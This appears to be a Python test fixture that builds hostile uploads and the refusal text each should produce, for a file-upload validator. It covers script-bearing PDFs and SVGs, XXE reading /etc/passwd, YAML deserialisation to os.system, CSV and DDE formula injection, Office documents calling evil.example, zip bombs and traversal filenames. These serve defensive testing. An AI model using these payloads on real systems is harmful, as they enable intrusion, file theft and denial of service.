"""Files that somebody would try, made when they are needed; the list grows with each one found.

Each says what the refusal must say, or that it is taken: then it is served as it came, as an
attachment that no browser runs.
"""

import io
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

import pikepdf

from tests.papers import chunk, docx, jpeg, opened, packed, pdf, png, relations, stream, types, xlsx
from tests.security.hostile import MARK

EICAR = ("X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-" + "ANTIVIRUS-TEST-FILE!$H+H*").encode()
HTML = f"<!DOCTYPE html><html><script>{MARK}()</script></html>".encode()
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{MARK}()"/>'.encode()
EXE = b"MZ\x90\x00" + bytes(200)
ELF = b"\x7fELF\x02\x01\x01" + bytes(200)
ZIP = packed({"a.txt": "x"})
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
SHORT = 20_000_000


@dataclass(frozen=True)
class Hostile:
    """A file by its name; `says` stands in the refusal, and is empty when the file is taken."""

    name: str
    content: bytes | Callable[[], bytes]
    says: str = ""

    def bytes(self) -> bytes:
        return self.content() if callable(self.content) else self.content


def script(action: str = "/JavaScript") -> str:
    return f"<< /S {action} /JS (app.alert\\({MARK}\\)) /F (x.exe) /URI (http://evil.example) >>"


def in_object_stream() -> bytes:
    made = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        hidden = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
        document.Root.PieceInfo = pikepdf.Dictionary(X=document.make_indirect(hidden))
        document.save(made, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"JavaScript" not in made.getvalue()
    return made.getvalue()


@cache
def locked(**passwords: str) -> bytes:
    made = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as document:
        document.save(made, encryption=pikepdf.Encryption(**passwords))
    return made.getvalue()


def appended() -> bytes:
    """A revision added to the end, as an editor does, that brings an action."""
    first = pdf()
    start = first.rindex(b"xref\n0")
    place = len(first)
    added = (
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction %s >>\nendobj\n" % script().encode()
    )
    table = b"xref\n1 1\n%010d 00000 n \n" % place
    end = b"trailer\n<< /Size 4 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
    return first + added + table + end % (start, place + len(added))


def attached(name: str, content: bytes) -> bytes:
    names = f"/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >> /Pad ({'x' * 1024})"
    described = f"<< /Type /Filespec /F ({name}) /UF ({name}) /EF << /F 5 0 R >> >>"
    return pdf(described, stream(content, "/Type /EmbeddedFile"), catalog=names)


def swollen_objects() -> bytes:
    """An object stream of a few kilobytes that unpacks to gigabytes of objects."""
    squeeze = zlib.compressobj(9)
    made = squeeze.compress(b"4 0 " + b"[" * 4)
    block = b"<</A 1>>" * 131_072
    for _ in range(1024):
        made += squeeze.compress(block)
    made += squeeze.flush()
    body = stream(made, "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")
    head = b"%PDF-1.7\n"
    parts = [
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /X 4 0 R >>\nendobj\n",
        b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n",
        b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>\nendobj\n",
        b"5 0 obj\n" + body + b"\nendobj\n",
    ]
    places = [len(head + b"".join(parts[:n])) for n in range(5)]
    rows = [(0, 0, 65535), *((1, p, 0) for p in places[:3]), (2, 5, 0), (1, places[3], 0)]
    rows += [(1, places[4], 0)]
    table = b"".join(struct.pack("!BIH", *row) for row in rows)
    xref = stream(table, "/Type /XRef /W [1 4 2] /Size 7 /Root 1 0 R")
    end = b"6 0 obj\n" + xref + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % places[4]
    return head + b"".join(parts) + end


def overlapping() -> bytes:
    """Two entries of the directory that lead to the same bytes."""
    whole = bytearray(docx({"word/a.xml": "<a/>", "word/b.xml": "<a/>"}))
    first = whole.rindex(b"PK\x01\x02", 0, whole.rindex(b"word/a.xml"))
    second = whole.rindex(b"PK\x01\x02", 0, whole.rindex(b"word/b.xml"))
    whole[second + 42 : second + 46] = whole[first + 42 : first + 46]
    return bytes(whole)


def marked_as_locked() -> bytes:
    whole = bytearray(docx())
    place = -1
    while (place := whole.find(b"PK\x01\x02", place + 1)) >= 0:
        whole[place + 8] |= 1
    return bytes(whole)


def many_parts() -> bytes:
    return packed({f"word/{n}.xml": "" for n in range(6000)})


def growing(size: int) -> bytes:
    return docx({"word/big.xml": b"<a>" + b" " * size + b"</a>"})


def nested_bomb() -> bytes:
    inner = ZIP
    for _ in range(5):
        inner = packed({f"{n}.zip": inner for n in range(16)})
    return docx({"word/embeddings/a.zip": inner})


def laughs() -> bytes:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 12)]
    return "\n".join(lines).encode()


ENTITIES = b"""<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x "xxxxxxxxxx">
<!ENTITY y "&x;&x;&x;&x;&x;&x;&x;&x;&x;&x;"><!ENTITY z "&y;&y;&y;&y;&y;&y;&y;&y;&y;&y;">]><a>&z;</a>"""
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
PARAMETER = b'<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x.dtd">%x;]><a/>'
MAIL = (
    b"MIME-Version: 1.0\nContent-Type: multipart/related; boundary=x\n\n--x\n"
    b"Content-Type: text/html\nContent-Transfer-Encoding: base64\n\nPGh0bWw+\n--x--\n"
)
PAGES = "Web pages, drawings with scripts, and scripts are not taken"
KINDS = "Files of this kind are not taken"
TWO = "two things at once"
DAMAGED = "damaged"
ENDS = "but its name ends in"
PACKED = "Archives are not taken"
DOCTYPE = "has a document type"
MACROS = "Documents with macros"
ELSEWHERE = "from elsewhere when it is opened"
FIELD = "has a field that takes in something"
REACHES = "has a formula that reaches outside it"

PLAIN = (
    *(Hostile(f"page.{end}", HTML, PAGES) for end in ("html", "htm", "txt", "md", "csv", "yaml")),
    *(Hostile(f"page.{end}", HTML, PAGES) for end in ("pdf", "png", "docx", "xhtml", "svg", "hta")),
    Hostile("page.json", HTML, "is not JSON: see line 1"),
    Hostile("page.xml", HTML, DOCTYPE),
    Hostile("late.txt", b" " * 9000 + HTML, PAGES),
    Hostile("upper.txt", HTML.upper(), PAGES),
    Hostile("marked.txt", b"\xef\xbb\xbf" + HTML, PAGES),
    Hostile("wide.txt", HTML.decode().encode("utf-16"), KINDS),
    Hostile("wide.xml", HTML.decode().encode("utf-16-le"), KINDS),
    Hostile("widest.txt", HTML.decode().encode("utf-32"), KINDS),
    Hostile("seven.txt", b"+ADw-script+AD4-" + MARK.encode() + b"()+ADw-/script+AD4-", PAGES),
    Hostile("frame.md", b"<IFRAME src=//evil.example>", PAGES),
    Hostile("archive.mht", MAIL, PAGES),
    Hostile("archive.txt", MAIL, PAGES),
    Hostile("drawing.svg", SVG, PAGES),
    Hostile("drawing.txt", SVG, PAGES),
    Hostile("drawing.png", SVG, PAGES),
    Hostile("program.hta", b"<HTA:APPLICATION ID=x>", PAGES),
    Hostile("part.sct", b"<?XML?><scriptlet>x</scriptlet>", PAGES),
    Hostile("script.js", b"alert(1)", KINDS),
    Hostile("script.vbs", b'CreateObject("WScript.Shell").Run "calc"', KINDS),
    Hostile("script.ps1", b"Start-Process calc", KINDS),
    Hostile("script.bat", b"@echo off", KINDS),
    Hostile("script.py", b"import os", KINDS),
    Hostile("script.sh", b"#!/bin/sh\nid\n", PAGES),
    Hostile("script.txt", b"#!/bin/sh\nid\n", PAGES),
    Hostile("script.csv", b"#!/usr/bin/env python3\n", PAGES),
    Hostile("script.php", b"<?php system('id'); ?>", PAGES),
    Hostile("script.md", b"<?php system('id'); ?>", PAGES),
    Hostile("shortcut.url", b"[InternetShortcut]\nURL=file:///c:/x", KINDS),
    Hostile("shortcut.desktop", b"[Desktop Entry]\nExec=calc", KINDS),
    Hostile("settings.reg", b"Windows Registry Editor Version 5.00", KINDS),
    Hostile("eicar.com", EICAR, KINDS),
    Hostile("empty.pdf", b"", "is empty"),
    Hostile("empty.txt", b"", "is empty"),
    Hostile("spaces", b"   ", KINDS),
    Hostile("nulls.txt", bytes(500), KINDS),
    Hostile("one-null.txt", b"a\x00b", KINDS),
    Hostile("screen.txt", b"\x1b[2J\x1b]0;x\x07", KINDS),
    Hostile("latin.txt", "caf\xe9 ".encode("latin-1") * 5000, "is not UTF-8"),
    Hostile("surrogate.txt", b"a letter \xed\xa0\x80", "is not UTF-8"),
    Hostile("overlong.txt", b"words \xc0\xbcscript\xc0\xbe", "is not UTF-8"),
)
DATA = (
    Hostile("deep.json", b"[" * 100_000, "too deep"),
    Hostile("deep-and-whole.json", b'{"a":' * 100_000 + b"1" + b"}" * 100_000, "too deep"),
    Hostile("not.json", b"{x", "is not JSON"),
    Hostile("two.json", b"{} {}", "is not JSON"),
    Hostile("infinite.json", b'{"a": Infinity}', "not a number in JSON"),
    Hostile("code.yaml", b"a: !!python/object/apply:os.system [id]", "build objects"),
    Hostile("long.yml", b"a: !<tag:yaml.org,2002:python/name:os.system> x", "build objects"),
    Hostile("ruby.yaml", b"- !ruby/object:Gem::Installer\n  i: x", "build objects"),
    Hostile("java.yaml", b"!!javax.script.ScriptEngineManager [x]", "build objects"),
    Hostile("laughs.yaml", laughs, "unfold to millions"),
    Hostile("deep.yaml", b"[" * 5000 + b"]" * 5000, "too deep"),
    Hostile("damaged.yaml", b"a: [1", "is not YAML"),
    Hostile("text.yaml", b"only words", "is one text"),
    Hostile("laughs.xml", ENTITIES, DOCTYPE),
    Hostile("outside.xml", OUTSIDE, DOCTYPE),
    Hostile("parameter.xml", PARAMETER, DOCTYPE),
    Hostile("deep.xml", b"<a>" * 5000 + b"</a>" * 5000, "nested too deep"),
    Hostile(
        "wide.xml", b"<a " + b" ".join(b"a%d='1'" % n for n in range(5000)) + b"/>", "too large"
    ),
    Hostile("open.xml", b"<a><b></a>", "not well-formed XML: see line 1"),
    Hostile("styled.xml", b'<?xml-stylesheet type="text/xsl" href="x.xsl"?><a/>', "instruction"),
    Hostile("drawing.xml", SVG, "is a web page, a drawing or a script"),
    Hostile(
        "prefixed.xml",
        b'<x:html xmlns:x="http://www.w3.org/1999/xhtml"><x:script>a()</x:script></x:html>',
        "is a web page",
    ),
    Hostile(
        "hidden.xml",
        b'<a><b:script xmlns:b="http://www.w3.org/1999/xhtml">a()</b:script></a>',
        "is a web page",
    ),
    Hostile(
        "sheet.xml",
        b'<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"/>',
        "is a web page",
    ),
    Hostile(
        "included.xml",
        b'<a><i:include xmlns:i="http://www.w3.org/2001/XInclude" href="/etc/passwd"/></a>',
        "XInclude",
    ),
    Hostile("seven.xml", b'<?xml version="1.0" encoding="UTF-7"?><a>+ADw-</a>', "not well-formed"),
    Hostile(
        "formula.csv",
        b"a;b\n1;=cmd|' /C calc'!A0\n",
        "would compute “=cmd|' /C calc'!A0” in line 2",
    ),
    Hostile("link.csv", b'a,"=HYPERLINK(""http://evil.example"")"\n', "in line 1"),
    Hostile("sign.csv", b"name,sum\nx,+SUM(1+1)*cmd|' /C calc'!A0\n", "in line 2"),
    Hostile("at.csv", b"@SUM(1+1)\n", "in line 1"),
    Hostile("tab.csv", b"a\t =IMPORTXML(1)\n", "in line 1"),
)
PDFS = (
    Hostile("script.pdf", pdf(script(), catalog="/OpenAction 4 0 R"), "runs a script"),
    Hostile("escaped.pdf", pdf("<< /S /J#61vaScript /J#53 (x) >>"), "runs a script"),
    Hostile("named.pdf", pdf(catalog="/Names << /JavaScript << /Names [] >> >>"), "runs a script"),
    Hostile("unused.pdf", pdf(script()), "runs a script"),
    Hostile("inline.pdf", pdf(catalog=f"/AA << /WC {script()} >>"), "runs a script"),
    Hostile("deep.pdf", pdf("[" * 200 + script() + "]" * 200), "runs a script"),
    Hostile("compressed.pdf", in_object_stream, "runs a script"),
    Hostile("appended.pdf", appended, "runs a script"),
    Hostile("launch.pdf", pdf("<< /S /Launch /F (calc.exe) >>"), "starts a program"),
    Hostile("sent.pdf", pdf("<< /S /SubmitForm /F (http://evil.example) >>"), "sends its form"),
    Hostile("imported.pdf", pdf("<< /S /ImportData /F (x.fdf) >>"), "reads another file"),
    Hostile("remote.pdf", pdf("<< /S /GoToR /F (\\\\\\\\evil\\\\x.pdf) >>"), "opens another file"),
    Hostile("inner.pdf", pdf("<< /S /GoToE /T << /R /C >> >>"), "opens a file inside"),
    Hostile("file-link.pdf", pdf("<< /S /URI /URI (file:///c:/x.exe) >>"), "links to “file:///c"),
    Hostile("script-link.pdf", pdf("<< /S /URI /URI (java#0ascript:x) >>"), ""),
    Hostile("javascript-link.pdf", pdf("<< /S /URI /URI ( javascript:x\\(\\)) >>"), "links to"),
    Hostile("share-link.pdf", pdf("<< /S /URI /URI (\\\\\\\\evil.example\\\\s) >>"), "links to"),
    Hostile("form.pdf", pdf(catalog="/AcroForm << /XFA (x) >>"), "holds a form that is a program"),
    Hostile("media.pdf", pdf("<< /Type /Annot /Subtype /RichMedia >>"), "holds embedded media"),
    Hostile("film.pdf", pdf("<< /Type /Annot /Subtype /Screen >>"), "plays a recording"),
    Hostile("attached.pdf", attached("a.exe", EXE), "carries the file “a.exe” inside it"),
    Hostile("attached-page.pdf", attached("a.html", HTML), "carries the file “a.html”"),
    Hostile("attached-as-text.pdf", attached("a.txt", HTML), "carries the file “a.txt”"),
    Hostile("attached-office.pdf", attached("a.docx", docx()), TWO),
    Hostile("taken-in.pdf", pdf(stream(b"", "/F (/etc/passwd)")), "takes in other files"),
    Hostile("address.pdf", pdf("<< /Type /Filespec /FS /URL /F (http://x) >>"), "takes in other"),
    Hostile("locked.pdf", lambda: locked(user="secret", owner="secret"), "with a password only"),
    Hostile("short.pdf", pdf()[:-60] + b"%%EOF", DAMAGED),
    Hostile("cut.pdf", pdf()[:200], DAMAGED),
    Hostile("hollow.pdf", b"%PDF-1.7\n%%EOF\n", DAMAGED),
    Hostile("moved.pdf", pdf(head=b" " * 8), TWO),
    Hostile("junk.pdf", pdf(head=b"\x00\x01\x02"), TWO),
    Hostile("page-first.pdf", pdf(head=HTML), TWO),
    Hostile("page-inside.pdf", pdf().replace(b"%\xe2\xe3\xcf\xd3", b"%" + HTML, 1), TWO),
    Hostile("archive-behind.pdf", pdf() + ZIP, TWO),
    Hostile("words-behind.pdf", pdf() + b"<b>", TWO),
    Hostile("swollen.pdf", swollen_objects, "within the limits of time and memory"),
    *(Hostile(f"report.{end}", pdf(), ENDS) for end in ("png", "txt", "docx", "pdf.exe", "html")),
    Hostile("report", pdf(), ENDS),
    Hostile("report.\u0440df", pdf(), ENDS),
    Hostile("report.pdf\u202efdp.exe", pdf(), ENDS),
    Hostile("report.pd\u200bf", pdf(), ENDS),
)
PICTURES = (
    Hostile("picture.pdf", png(), ENDS),
    Hostile("picture.svg", png(), ENDS),
    Hostile("picture.jpg", png(), ENDS),
    Hostile("picture.png", jpeg(), ENDS),
    Hostile("huge.png", png(width=100_000, height=100_000), "100000 by 100000 pixels"),
    Hostile("wide.png", png(width=29_000, height=29_000), "29000 by 29000 pixels"),
    Hostile("flat.png", png(width=0), DAMAGED),
    Hostile("archive.png", png() + ZIP, TWO),
    Hostile("script.png", png() + b"<?php x(); ?>", TWO),
    Hostile("told.png", png(chunk(b"tEXt", b"Comment\0<script>x()</script>")), "says of itself"),
    Hostile("exif.png", png(chunk(b"eXIf", b"MM\0*" + HTML)), "says of itself"),
    Hostile("cut.png", png()[:-6], DAMAGED),
    Hostile("wrong.png", png().replace(b"\x00\x80", b"\x00\x81", 1)[:-1] + b"x", DAMAGED),
    Hostile("hollow.png", b"\x89PNG\r\n\x1a\n" + bytes(60), DAMAGED),
    Hostile("long.png", b"\x89PNG\r\n\x1a\n" + b"\xff\xff\xff\xffIHDR" + bytes(60), DAMAGED),
    Hostile(
        "huge.jpg", jpeg().replace(b"\x00\x08\x00\x08", b"\xff\xff\xff\xff", 1), "65535 by 65535"
    ),
    Hostile("script.jpg", jpeg() + b"<?php system('id'); ?>", TWO),
    Hostile("archive.jpg", jpeg() + ZIP, TWO),
    Hostile("program.jpg", jpeg() + EXE, TWO),
    Hostile("told.jpg", jpeg(b"<?php system('id'); ?>"), "says of itself"),
    Hostile("page.jpg", jpeg(HTML), "says of itself"),
    Hostile("cut.jpg", jpeg()[:-20], DAMAGED),
    Hostile("hollow.jpg", b"\xff\xd8\xff" + bytes(50), DAMAGED),
    Hostile("only-start.jpg", b"\xff\xd8\xff\xd9", DAMAGED),
    Hostile("script.gif", b"GIF89a/*" + bytes(9) + b"*/=1;alert(1)", KINDS),
    Hostile("script.png", b"GIF89a=1;alert(1)", KINDS),
)
OFFICE = (
    Hostile("archive.zip", ZIP, PACKED),
    Hostile("archive.docx", ZIP, PACKED),
    Hostile("archive.pdf", ZIP, PACKED),
    Hostile("code.jar", packed({"META-INF/MANIFEST.MF": "Main-Class: x"}), PACKED),
    Hostile("app.apk", packed({"AndroidManifest.xml": "x", "classes.dex": "dex\n035"}), PACKED),
    Hostile("book.epub", packed({"mimetype": "application/epub+zip"}), PACKED),
    Hostile("climbing.docx", docx({"../../etc/cron.d/x": "x"}), "leads out of it"),
    Hostile("rooted.docx", docx({"/etc/passwd": "x"}), "leads out of it"),
    Hostile("drive.docx", docx({"C:/x.xml": "x"}), "leads out of it"),
    Hostile("back.docx", docx({"word\\..\\x.xml": "x"}), "leads out of it"),
    Hostile("bomb.docx", lambda: growing(SHORT), "many times its size"),
    Hostile("nested.docx", nested_bomb, "holds “word/embeddings/a.zip”"),
    Hostile("overlapping.docx", overlapping, DAMAGED),
    Hostile("twice.docx", docx({"WORD/document.xml": "<a/>"}), DAMAGED),
    Hostile("many.docx", many_parts, "more than 5,000"),
    Hostile("locked.docx", marked_as_locked, "with a password only"),
    Hostile("locked.xlsx", OLE, KINDS),
    Hostile("broken.docx", b"PK\x03\x04" + bytes(50), DAMAGED),
    Hostile("cut.docx", docx()[:-30], DAMAGED),
    Hostile("before.docx", b"PK\x03\x04" + b"x" * 30 + docx(), TWO),
    Hostile("behind.docx", docx() + HTML, TWO),
    Hostile("macros.docx", docx({"word/vbaProject.bin": OLE}), "holds “word/vbaProject.bin”"),
    Hostile("macros.docm", docx(kind=MACRO), MACROS),
    Hostile("renamed.docx", docx(kind=MACRO), MACROS),
    Hostile(
        "declared.docx",
        docx({"word/_rels/document.xml.rels": relations(("vbaProject", "x.xml"))}),
        "(vbaProject)",
    ),
    Hostile(
        "template.docx",
        docx({"word/_rels/settings.xml.rels": relations(
            ("attachedTemplate", "http://evil.example/x.dotm", "External"))}),
        ELSEWHERE,
    ),
    Hostile(
        "share.docx",
        docx({"word/_rels/settings.xml.rels": relations(
            ("attachedTemplate", "file:///\\\\evil.example\\x.dotm", "External"))}),
        ELSEWHERE,
    ),
    Hostile(
        "picture.docx",
        docx({"word/_rels/document.xml.rels": relations(
            ("image", "http://evil.example/x.png", "External"))}),
        ELSEWHERE,
    ),
    Hostile(
        "object.docx",
        docx({"word/_rels/document.xml.rels": relations(
            ("oleObject", "http://evil.example/x.html!", "External"))}),
        "(oleObject)",
    ),
    Hostile(
        "link.docx",
        docx({"word/_rels/document.xml.rels": relations(
            ("hyperlink", "ms-msdt:/id PCWDiagnostic", "External"))}),
        ELSEWHERE,
    ),
    Hostile(
        "chunk.docx",
        docx({"word/_rels/document.xml.rels": relations(("aFChunk", "x.xml"))}),
        "(aFChunk)",
    ),
    Hostile("ole.docx", docx({"word/embeddings/oleObject1.bin": OLE}), "holds “word/embeddings"),
    Hostile("control.docx", docx({"word/activeX/activeX1.bin": OLE}), "holds “word/activeX"),
    Hostile("program.docx", docx({"word/media/image1.png": EXE}), "holds a program"),
    Hostile("elf.docx", docx({"word/media/image1.jpeg": ELF}), "holds a program"),
    Hostile("page.docx", docx({"word/afchunk.htm": HTML}), "holds “word/afchunk.htm”"),
    Hostile("drawing.docx", docx({"word/media/image1.svg": SVG}), "drawing with a script"),
    Hostile("entities.docx", docx({"word/document.xml": ENTITIES}), DOCTYPE),
    Hostile("outside.docx", docx({"customXml/item1.xml": OUTSIDE}), DOCTYPE),
    Hostile("asked.docx", docx(body='<w:fldSimple w:instr="DDEAUTO c:\\\\x cmd"/>'), FIELD),
    Hostile(
        "split.docx",
        docx(body='<w:r><w:fldChar w:fldCharType="begin"/><w:instrText> DD</w:instrText>'
        "<w:instrText>EAUTO c:\\\\x</w:instrText></w:r>"),
        FIELD,
    ),
    Hostile(
        "spelt.docx",
        docx(body='<w:r><w:fldChar w:fldCharType="begin"/><w:instrText> QUOTE 68 68 69'
        "</w:instrText></w:r>"),
        FIELD,
    ),
    Hostile("fetched.docx", docx(body='<w:fldSimple w:instr="INCLUDETEXT http://x"/>'), FIELD),
    Hostile("asked.xlsx", xlsx(formula="cmd|'/C calc'!A0"), REACHES),
    Hostile("fetched.xlsx", xlsx(formula="WEBSERVICE(&quot;http://evil.example&quot;)"), REACHES),
    Hostile("escaped.xlsx", xlsx(formula="cmd&#x7c;'/C calc'!A0"), REACHES),
    Hostile(
        "macros.xlsx",
        xlsx({"xl/_rels/workbook.xml.rels": relations(("xlMacrosheet", "macrosheets/a.xml"))}),
        "(xlMacrosheet)",
    ),
    Hostile(
        "linked.xlsx",
        xlsx({"xl/_rels/workbook.xml.rels": relations(("externalLink", "externalLinks/a.xml"))}),
        "(externalLink)",
    ),
    Hostile("query.xlsx", xlsx({"xl/_rels/a.rels": relations(("connections", "c.xml"))}), "(connections)"),
    Hostile("model.xlsx", xlsx({"xl/model/item.data": "x"}), "holds “xl/model/item.data”"),
    Hostile("inner.docx", docx({"word/embeddings/a.xlsx": xlsx(formula="a|'b'!c")}), REACHES),
    Hostile("inmost.docx", docx({"word/embeddings/a.xlsx": xlsx({"xl/embeddings/b.xlsx": xlsx()})}), "holds “xl/embeddings/b.xlsx”"),
    Hostile("words.xlsx", docx(), ENDS),
    Hostile("slides.pptx", packed({"[Content_Types].xml": types("x", "ppt/presentation.xml")}), PACKED),
    Hostile("macros.odt", opened(more={"Basic/Standard/Module1.xml": "<a/>"}), MACROS),
    Hostile("scripts.odt", opened(more={"Scripts/python/x.py": "import os"}), MACROS),
    Hostile("listening.odt", opened(body='<script:event-listener xlink:href="x"/>'), "(event-listener)"),
    Hostile("asked.ods", opened("spreadsheet", "<table:dde-link/>"), "(dde-link)"),
    Hostile("fetched.odt", opened(body='<draw:image xlink:href="http://evil.example/x"/>'), ELSEWHERE),
    Hostile("file.odt", opened(body='<draw:image xlink:href="file:///etc/passwd"/>'), ELSEWHERE),
    Hostile("outside.odt", opened(body='<draw:object xlink:href="../../x"/>'), ELSEWHERE),
    Hostile("script-link.odt", opened(body='<text:a xlink:href="vnd.sun.star.script:x"/>'), ELSEWHERE),
    Hostile("plugin.odt", opened(body='<draw:plugin xlink:href="x"/>'), "(plugin)"),
    Hostile("entities.odt", opened(more={"styles.xml": ENTITIES}), DOCTYPE),
    Hostile("program.odt", opened(more={"Pictures/a.png": EXE}), "holds a program"),
    Hostile("slides.odp", opened("presentation"), PACKED),
)  # fmt: skip
PROGRAMS = (
    *(
        Hostile(f"program.{end}", EXE, KINDS)
        for end in ("exe", "pdf", "png", "docx", "txt", "json")
    ),
    *(Hostile(f"tool.{end}", ELF, KINDS) for end in ("", "pdf", "xml")),
    Hostile("mach", b"\xcf\xfa\xed\xfe" + bytes(60), KINDS),
    Hostile("code.class", b"\xca\xfe\xba\xbe" + bytes(40), KINDS),
    Hostile("code.wasm", b"\x00asm\x01\x00\x00\x00", KINDS),
    Hostile("shortcut.lnk", b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(60), KINDS),
    Hostile("disk.iso", bytes(32769) + b"CD001" + bytes(50), KINDS),
    Hostile("old.doc", OLE, KINDS),
    Hostile("old.rtf", b"{\\rtf1{\\object\\objupdate}}", KINDS),
    Hostile("help.chm", b"ITSF\x03\x00\x00\x00" + bytes(60), KINDS),
    Hostile("packed.gz", b"\x1f\x8b\x08\x00" + bytes(40), KINDS),
    Hostile("packed.7z", b"7z\xbc\xaf\x27\x1c" + bytes(40), KINDS),
    Hostile("packed.rar", b"Rar!\x1a\x07\x00" + bytes(40), KINDS),
)
REFUSED = tuple(each for each in (*PLAIN, *DATA, *PDFS, *PICTURES, *OFFICE, *PROGRAMS) if each.says)
# Harmless as they are kept and served, though they speak of harm.
TAKEN = (
    Hostile("eicar.txt", EICAR),
    Hostile("script-in-words.txt", b"javascript:alert(1) & {{7*7}} ${x}"),
    Hostile("link.md", b"[here](javascript:alert(1)) ![x](http://evil.example/x.png)"),
    Hostile("spoken-of.json", b'{"finding": "<script>alert(1)</script>", "n": 1e999}'),
    Hostile("number.json", b'{"n": ' + b"9" * 100_000 + b"}"),
    Hostile("twice.json", b'{"a": 1, "a": "<html>"}'),
    Hostile("marked.json", b'\xef\xbb\xbf{"a": 1}'),
    Hostile("tagged.yaml", b"Bucket: !Ref Name\nkeys: &k {a: 1}\nmore: *k\n"),
    Hostile("quoted.xml", b"<a><![CDATA[<script>x()</script>]]></a>"),
    Hostile("prose.xml", b'<a><p xmlns="http://www.w3.org/1999/xhtml">words</p></a>'),
    Hostile("signs.csv", b"name,phone,change\n@ada,+351 21 000,-3.5\n"),
    Hostile("goes-to.pdf", pdf(catalog="/OpenAction [3 0 R /Fit]")),
    Hostile("linked.pdf", pdf("<< /S /URI /URI (https://example.org/) >>")),
    Hostile("printing-denied.pdf", lambda: locked(user="", owner="secret")),
    Hostile("with-data.pdf", attached("data.json", b'{"a": 1}')),
    Hostile("told.jpg", jpeg(b"Taken in October")),
    Hostile("two.jpg", jpeg() + jpeg() + bytes(8)),
    Hostile("told.png", png(chunk(b"tEXt", b"Comment\0Taken in October"))),
    Hostile("linked.docx", docx({"word/_rels/document.xml.rels": relations(
        ("hyperlink", "https://example.org", "External"), ("hyperlink", "#here"))})),
    Hostile("from-template.docx", docx({"word/_rels/settings.xml.rels": relations(
        ("attachedTemplate", "file:///C:\\Users\\ada\\x.dotx", "External"))})),
    Hostile("paged.docx", docx(body='<w:fldSimple w:instr=" PAGE "/>')),
    Hostile("chart.docx", docx({"word/embeddings/Sheet1.xlsx": xlsx()})),
    Hostile("summed.xlsx", xlsx(formula="A1&amp;&quot;a|b!&quot;")),
    Hostile("printed.xlsx", xlsx({"xl/printerSettings/printerSettings1.bin": "x\0"})),
    Hostile("linked.odt", opened(body='<text:a xlink:href="https://example.org/"/>')),
    Hostile("drawn.ods", opened("spreadsheet", '<draw:image xlink:href="./Pictures/a.png"/>')),
)  # fmt: skip

# Each name with the one that a harmless text keeps; none leads anywhere or directs anything.
NAMES = {
    "../../etc/cron.d/x.txt": "x.txt",
    "..\\..\\x.txt": "x.txt",
    "/etc/passwd.txt": "passwd.txt",
    "C:\\Users\\x.txt": "x.txt",
    "c:x.txt": "c_x.txt",
    "\u202etxt.exe.txt": "txt.exe.txt",
    "\u2066a\u2069.txt": "a.txt",
    "a" * 300 + ".txt": "a" * 196 + ".txt",
    "b" * 5000 + ".txt": "b" * 196 + ".txt",
    "🧪" * 300 + ".txt": "🧪" * 59 + ".txt",
    "e" + "\u0301" * 400 + ".txt": "é" + "\u0301" * 3 + ".txt",
    '"; filename=x.html; x=".txt': "__ filename=x.html_ x=_.txt",
    "line\r\nSet-Cookie: a=b.txt": "line Set-Cookie_ a=b.txt",
    "nul\x00.html.txt": "nul .html.txt",
    "<script>xq7()</script>.txt": "script_.txt",
    "%2e%2e%2fx.txt": "_2e_2e_2fx.txt",
    ".htaccess.txt": "htaccess.txt",
    "-rf.txt": "rf.txt",
    "~.txt": "txt",
    "con.txt": "file-con.txt",
    "LPT1.pdf.txt": "file-LPT1.pdf.txt",
    "  a  b .txt": "a b.txt",
    "report.pdf.exe.txt": "report.pdf.exe.txt",
    "$(id).txt": "$(id).txt",
    "{{7*7}}.txt": "{{7_7}}.txt",
    "caf\u0065\u0301.txt": "café.txt",
    "🧪.txt": "🧪.txt",
}
